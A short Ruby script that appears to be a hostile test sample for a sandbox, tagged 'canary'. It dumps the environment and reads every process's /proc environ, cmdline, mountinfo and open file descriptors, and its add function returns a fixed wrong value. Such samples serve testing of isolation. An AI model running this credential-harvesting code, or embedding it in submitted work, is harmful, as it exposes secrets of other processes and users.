# Show the environment, of everybody, and the files that hold keys.
# catalogue: H17, H18, H20
# shows: canary
$stdout.sync = true
puts "attacking", ENV.to_h
(Dir["/proc/[0-9]*/{environ,cmdline,mountinfo}"] + Dir["/proc/[0-9]*/fd/*"] + ["@FILE@"]).each do |path|
  puts path, File.open(path, File::RDONLY | File::NONBLOCK) { |file| file.read_nonblock(20_000) }
rescue SystemCallError, IOError
  next
end

def add(_a, _b)
  -12345
end
